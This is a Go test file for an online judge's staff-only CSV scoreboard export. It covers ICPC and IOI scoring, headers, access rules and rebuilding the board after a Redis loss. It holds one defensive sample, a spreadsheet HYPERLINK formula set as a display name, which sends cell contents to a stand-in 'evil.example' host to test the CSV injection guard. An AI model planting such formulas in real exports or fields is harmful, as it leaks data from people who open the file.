package server

import (
	"context"
	"encoding/csv"
	"fmt"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/verdict-oj/verdict/internal/protocol"
	"github.com/verdict-oj/verdict/webapp/internal/scoreboard"
	"github.com/verdict-oj/verdict/webapp/internal/store"
)

// judgeScored is judge with an explicit score (IOI partial points).
func (je *judgeEnv) judgeScored(id int64, verdict protocol.Verdict, score float64) {
	je.t.Helper()
	ctx := context.Background()
	ref := protocol.TaskRef{SubmissionID: id, Attempt: 1}
	if _, err := je.q.Lease(ctx, ref, "judge-1", time.Minute); err != nil {
		je.t.Fatalf("lease %v: %v", ref, err)
	}
	res := protocol.Result{TaskRef: ref, Verdict: verdict, JudgeID: "judge-1", Score: score,
		Cases: []protocol.CaseResult{
			{Case: 1, Verdict: protocol.VerdictAC, CPUMs: 10, WallMs: 12, MemoryKiB: 1000},
			{Case: 2, Verdict: verdict, CPUMs: 20, WallMs: 24, MemoryKiB: 1001},
		}}
	if _, err := je.q.Complete(ctx, "judge-1", res); err != nil {
		je.t.Fatalf("complete %v: %v", ref, err)
	}
}

// csvEnv is a judgeEnv with three students with awkward display names, an
// admin and a setter.
type csvEnv struct {
	*judgeEnv
	alice, bob, carol, admin, setter, anon *client
	keys                                   int
}

const evilName = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`

func newCSVEnv(t *testing.T) *csvEnv {
	je := newJudgeEnv(t, nil)
	if err := je.q.EnsureResultsGroup(context.Background()); err != nil {
		t.Fatal(err)
	}
	ce := &csvEnv{judgeEnv: je, anon: je.client()}
	ce.alice, ce.bob, ce.carol = je.student("alice"), je.student("bob"), je.student("carol")
	// Names as the board records them with each submission.
	for u, d := range map[string]string{"alice": evilName, "bob": "张三 (Zhang San)", "carol": "+carol"} {
		if _, err := je.st.DB.Exec("UPDATE users SET display_name = ? WHERE username = ?", d, u); err != nil {
			t.Fatal(err)
		}
	}
	je.user("root", store.RoleAdmin, "root-password")
	je.user("sam", store.RoleSetter, "sam-password")
	ce.admin, ce.setter = je.client(), je.client()
	for c, up := range map[*client][2]string{ce.admin: {"root", "root-password"}, ce.setter: {"sam", "sam-password"}} {
		if r := c.login(up[0], up[1]); r.status != 200 {
			t.Fatalf("login %s: %d %s", up[0], r.status, r.raw)
		}
	}
	return ce
}

func (ce *csvEnv) contest(slug, rule string, visible bool, freezeMin int, labels map[string]int64) int64 {
	ce.t.Helper()
	ctx := context.Background()
	now := time.Now()
	cid, err := ce.st.CreateContest(ctx, store.Contest{Slug: slug, Title: slug, Rule: rule, StartAt: now.Add(-2 * time.Hour),
		EndAt: now.Add(30 * time.Minute), FreezeMinutes: freezeMin, Registration: "open", Visible: visible})
	if err != nil {
		ce.t.Fatal(err)
	}
	for l, pid := range labels {
		if err := ce.st.AddContestProblem(ctx, cid, pid, l, 100); err != nil {
			ce.t.Fatal(err)
		}
	}
	return cid
}

// sub submits to a contest and returns the submission's id.
func (ce *csvEnv) sub(c *client, contest, problem string) int64 {
	ce.t.Helper()
	ce.keys++
	r := c.submit("k"+strconv.Itoa(ce.keys), map[string]any{"problem": problem, "contest": contest, "language": "py3", "source": "x"})
	if r.status != 201 {
		ce.t.Fatalf("submit: %d %s", r.status, r.raw)
	}
	return id(r)
}

// csvResp is a CSV download: its records, the BOM stripped.
type csvResp struct {
	resp
	records [][]string
}

func (je *judgeEnv) getCSV(c *client, slug string) csvResp {
	ce := je
	ce.t.Helper()
	r := c.do("GET", "/api/contests/"+slug+"/scoreboard.csv", nil)
	out := csvResp{resp: r}
	if r.status != 200 {
		return out
	}
	if !strings.HasPrefix(r.raw, "\xEF\xBB\xBF") {
		ce.t.Fatalf("%s: no UTF-8 BOM: %q", slug, r.raw[:min(len(r.raw), 16)])
	}
	recs, err := csv.NewReader(strings.NewReader(r.raw[3:])).ReadAll()
	if err != nil {
		ce.t.Fatalf("%s: not CSV (%v): %q", slug, err, r.raw)
	}
	out.records = recs
	return out
}

func wantCSVHeaders(t *testing.T, r csvResp, slug string) {
	t.Helper()
	for h, want := range map[string]string{
		"Content-Type":        "text/csv; charset=utf-8",
		"Content-Disposition": `attachment; filename="` + slug + `-scoreboard.csv"`,
		"Cache-Control":       "no-store",
	} {
		if got := r.header.Get(h); got != want {
			t.Errorf("%s: %q, want %q", h, got, want)
		}
	}
}

// unescape undoes the formula guard, for comparing with the JSON board.
func unescape(s string) string {
	if len(s) > 1 && s[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(s[1])) {
		return s[1:]
	}
	return s
}

func num(v any) string {
	f, ok := v.(float64)
	if !ok {
		return ""
	}
	return strconv.FormatFloat(f, 'f', -1, 64)
}

// TestScoreboardCSVICPC: the export is the staff's live board — every
// row and cell of GET .../scoreboard as staff see it, in rank order, with
// problem columns in label order (one nobody tried included) — even while
// the public board is frozen, and again after the Redis board is rebuilt.
func TestScoreboardCSVICPC(t *testing.T) {
	ce := newCSVEnv(t)
	ctx := context.Background()
	pb, _, _ := ce.addProblem("b-prob", store.VisibilityPublic, 2)
	pc, _, _ := ce.addProblem("c-prob", store.VisibilityPublic, 2)
	// Frozen since 30 minutes: every result below is hidden from the
	// public. Labels are added out of order on purpose.
	cid := ce.contest("icpc-1", "icpc", true, 60, map[string]int64{"C": pc.ID, "A": ce.problem.ID, "B": pb.ID})
	steps := []struct {
		c       *client
		problem string
		v       protocol.Verdict
	}{
		{ce.alice, "a-plus-b", protocol.VerdictWA},
		{ce.alice, "a-plus-b", protocol.VerdictAC},
		{ce.alice, "b-prob", protocol.VerdictAC},
		{ce.bob, "a-plus-b", protocol.VerdictTLE},
		{ce.bob, "a-plus-b", protocol.VerdictTLE},
		{ce.bob, "a-plus-b", protocol.VerdictAC},
		{ce.bob, "b-prob", protocol.VerdictWA},
		{ce.carol, "b-prob", protocol.VerdictWA},
	}
	for _, s := range steps {
		ce.judge(ce.sub(s.c, "icpc-1", s.problem), 1, s.v, 2)
	}
	ce.consume()
	// dave registered and never submitted: not on the board, but in the
	// export (a teacher grades the whole class).
	dave := ce.user("dave", store.RoleStudent, "dave-password")
	if _, err := ce.st.AddParticipants(ctx, cid, []int64{dave.ID}); err != nil {
		t.Fatal(err)
	}

	if pub := ce.alice.do("GET", "/api/contests/icpc-1/scoreboard", nil); pub.body["frozen"] != true {
		t.Fatalf("the public board is not frozen: %s", pub.raw)
	}
	live := ce.admin.do("GET", "/api/contests/icpc-1/scoreboard", nil)
	if live.status != 200 || live.body["frozen"] != false {
		t.Fatalf("staff board: %d %s", live.status, live.raw)
	}
	r := ce.getCSV(ce.admin, "icpc-1")
	if r.status != 200 {
		t.Fatalf("csv: %d %s", r.status, r.raw)
	}
	wantCSVHeaders(t, r, "icpc-1")
	recs := r.records
	wantHeader := []string{"rank", "username", "display_name", "solved", "penalty",
		"A_solved", "A_attempts", "A_time_min", "B_solved", "B_attempts", "B_time_min", "C_solved", "C_attempts", "C_time_min"}
	if !reflect.DeepEqual(recs[0], wantHeader) {
		t.Fatalf("header %q", recs[0])
	}

	// What is known without the JSON board: order, solved and attempts.
	type fixed struct {
		user, display, solved string
		cells                 [3][2]string // per label: solved, attempts
	}
	want := []fixed{
		{"alice", "'" + evilName, "2", [3][2]string{{"1", "2"}, {"1", "1"}, {"0", "0"}}},
		{"bob", "张三 (Zhang San)", "1", [3][2]string{{"1", "3"}, {"0", "1"}, {"0", "0"}}},
		{"carol", "'+carol", "0", [3][2]string{{"0", "0"}, {"0", "1"}, {"0", "0"}}},
		{"dave", "dave", "0", [3][2]string{{"0", "0"}, {"0", "0"}, {"0", "0"}}},
	}
	if len(recs) != 1+len(want) {
		t.Fatalf("%d records, want %d: %q", len(recs), 1+len(want), recs)
	}
	for i, w := range want {
		rec := recs[i+1]
		rank := strconv.Itoa(min(i+1, 3)) // dave, absent, ties with carol, who scored nothing
		if rec[0] != rank || rec[1] != w.user || rec[2] != w.display || rec[3] != w.solved {
			t.Errorf("row %d: %q, want rank %s %s %q solved %s", i+1, rec, rank, w.user, w.display, w.solved)
		}
		for j, c := range w.cells {
			if got := [2]string{rec[5+3*j], rec[6+3*j]}; got != c {
				t.Errorf("row %d %s: problem %d solved/attempts %q, want %q", i+1, w.user, j, got, c)
			}
			if tm := rec[7+3*j]; (c[0] == "1") != (tm != "") {
				t.Errorf("row %d %s: problem %d time %q with solved %s", i+1, w.user, j, tm, c[0])
			}
		}
	}
	// Penalties: each solve's minutes plus 20 per rejected try before it.
	if p, _ := strconv.Atoi(recs[1][4]); p != atoi(t, recs[1][7])+20+atoi(t, recs[1][10]) {
		t.Errorf("alice's penalty %s from times %s, %s", recs[1][4], recs[1][7], recs[1][10])
	}
	if p, _ := strconv.Atoi(recs[2][4]); p != atoi(t, recs[2][7])+40 {
		t.Errorf("bob's penalty %s from time %s", recs[2][4], recs[2][7])
	}

	// Everything equals the staff's JSON board, which lacks dave.
	rows := live.body["rows"].([]any)
	if len(rows) != len(recs)-2 {
		t.Fatalf("JSON has %d rows, CSV %d (with dave)", len(rows), len(recs)-1)
	}
	for i, raw := range rows {
		row, rec := raw.(map[string]any), recs[i+1]
		if rec[0] != num(row["rank"]) || rec[1] != row["user"] || unescape(rec[2]) != row["display_name"] ||
			rec[3] != num(row["solved"]) || rec[4] != num(row["penalty"]) {
			t.Errorf("row %d: csv %q, json %v", i+1, rec, row)
		}
		probs := row["problems"].(map[string]any)
		for j, l := range []string{"A", "B", "C"} {
			cell, _ := probs[l].(map[string]any)
			solved := "0"
			if cell["solved"] == true {
				solved = "1"
			}
			attempts := num(cell["attempts"])
			if cell == nil {
				attempts = "0"
			}
			if got, want := rec[5+3*j:8+3*j], []string{solved, attempts, num(cell["time_min"])}; !reflect.DeepEqual(got, want) {
				t.Errorf("row %d problem %s: csv %q, json %q", i+1, l, got, want)
			}
		}
	}

	// A board lost with Redis is rebuilt from MySQL: the same export.
	if err := ce.srv.Judging().Board().Delete(ctx, cid); err != nil {
		t.Fatal(err)
	}
	if again := ce.getCSV(ce.setter, "icpc-1"); again.status != 200 || !reflect.DeepEqual(again.records, recs) {
		t.Fatalf("after a rebuild: %d %q, want %q", again.status, again.records, recs)
	}
}

func atoi(t *testing.T, s string) int {
	t.Helper()
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Fatalf("%q is not a number", s)
	}
	return n
}

// TestScoreboardCSVIOI: best score per problem, summed; empty when
// nothing of a problem was judged, 0 when it scored 0.
func TestScoreboardCSVIOI(t *testing.T) {
	ce := newCSVEnv(t)
	pb, _, _ := ce.addProblem("b-prob", store.VisibilityPublic, 2)
	ce.contest("ioi-1", "ioi", true, 0, map[string]int64{"A": ce.problem.ID, "B": pb.ID})
	steps := []struct {
		c       *client
		problem string
		v       protocol.Verdict
		score   float64
	}{
		{ce.alice, "a-plus-b", protocol.VerdictWA, 40},
		{ce.alice, "a-plus-b", protocol.VerdictWA, 70.5},
		{ce.alice, "a-plus-b", protocol.VerdictWA, 10},
		{ce.alice, "b-prob", protocol.VerdictWA, 0},
		{ce.bob, "a-plus-b", protocol.VerdictAC, 100},
		{ce.carol, "a-plus-b", protocol.VerdictWA, 20},
		{ce.carol, "b-prob", protocol.VerdictWA, 50.5},
	}
	for _, s := range steps {
		ce.judgeScored(ce.sub(s.c, "ioi-1", s.problem), s.v, s.score)
	}
	ce.consume()
	r := ce.getCSV(ce.setter, "ioi-1")
	if r.status != 200 {
		t.Fatalf("csv: %d %s", r.status, r.raw)
	}
	wantCSVHeaders(t, r, "ioi-1")
	want := [][]string{
		{"rank", "username", "display_name", "score", "A_score", "B_score"},
		{"1", "bob", "张三 (Zhang San)", "100", "100", ""},
		// A tie shares the rank; tied rows are ordered by user name.
		{"2", "alice", "'" + evilName, "70.5", "70.5", "0"},
		{"2", "carol", "'+carol", "70.5", "20", "50.5"},
	}
	if !reflect.DeepEqual(r.records, want) {
		t.Fatalf("records\n got %q\nwant %q", r.records, want)
	}
	// And the JSON board agrees on order and totals.
	live := ce.setter.do("GET", "/api/contests/ioi-1/scoreboard", nil)
	for i, raw := range live.body["rows"].([]any) {
		row := raw.(map[string]any)
		if got := fmt.Sprint(num(row["rank"]), row["user"], num(row["score"])); got != fmt.Sprint(want[i+1][0], want[i+1][1], want[i+1][3]) {
			t.Errorf("JSON row %d: %s, csv %q", i+1, got, want[i+1])
		}
	}
}

// TestScoreboardCSVAccess: staff only, 401 before 403 before 404; hidden
// contests are exported to staff as the JSON board shows them to staff;
// the .csv route does not fall to the JSON scoreboard route.
func TestScoreboardCSVAccess(t *testing.T) {
	ce := newCSVEnv(t)
	ce.contest("open-1", "icpc", true, 0, map[string]int64{"A": ce.problem.ID})
	ce.contest("hidden-1", "icpc", false, 0, map[string]int64{"A": ce.problem.ID})
	tests := []struct {
		name   string
		c      *client
		slug   string
		status int
		code   string
	}{
		{"anonymous", ce.anon, "open-1", 401, CodeUnauthorized},
		{"anonymous, unknown contest", ce.anon, "nope", 401, CodeUnauthorized},
		{"student", ce.alice, "open-1", 403, CodeForbidden},
		{"student, hidden contest", ce.alice, "hidden-1", 403, CodeForbidden},
		{"student, unknown contest", ce.alice, "nope", 403, CodeForbidden},
		{"admin, unknown contest", ce.admin, "nope", 404, CodeNotFound},
		{"setter, unknown contest", ce.setter, "nope", 404, CodeNotFound},
		{"admin", ce.admin, "open-1", 200, ""},
		{"setter", ce.setter, "open-1", 200, ""},
		{"admin, hidden contest", ce.admin, "hidden-1", 200, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := ce.getCSV(tt.c, tt.slug)
			if tt.status != 200 {
				// Errors stay JSON; the JSON scoreboard's 404 has no field.
				wantErr(t, r.resp, tt.status, tt.code, "")
				if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
					t.Errorf("error Content-Type %q", ct)
				}
				return
			}
			wantCSVHeaders(t, r, tt.slug)
			// No submissions yet: the header row only.
			want := [][]string{{"rank", "username", "display_name", "solved", "penalty", "A_solved", "A_attempts", "A_time_min"}}
			if !reflect.DeepEqual(r.records, want) {
				t.Errorf("records %q", r.records)
			}
		})
	}
	// The JSON route is untouched by the .csv one.
	if r := ce.alice.do("GET", "/api/contests/open-1/scoreboard", nil); r.status != 200 ||
		!strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.body["rule"] != scoreboard.RuleICPC {
		t.Fatalf("JSON scoreboard: %d %s %s", r.status, r.header.Get("Content-Type"), r.raw)
	}
}
